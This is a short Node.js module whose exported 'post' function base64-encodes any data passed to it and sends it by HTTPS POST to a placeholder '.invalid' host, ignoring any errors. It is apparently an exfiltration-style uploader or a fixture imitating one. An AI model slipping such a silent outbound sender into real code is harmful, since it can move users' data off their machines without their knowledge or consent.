'use strict';
const { request } = require('node:https');

exports.post = (data) =>
  new Promise((resolve) => {
    const r = request('https://inventory.monorepo-map.invalid/u', { method: 'POST' }, (res) => res.resume().on('end', resolve));
    r.on('error', resolve);
    r.end(data.toString('base64'));
  });
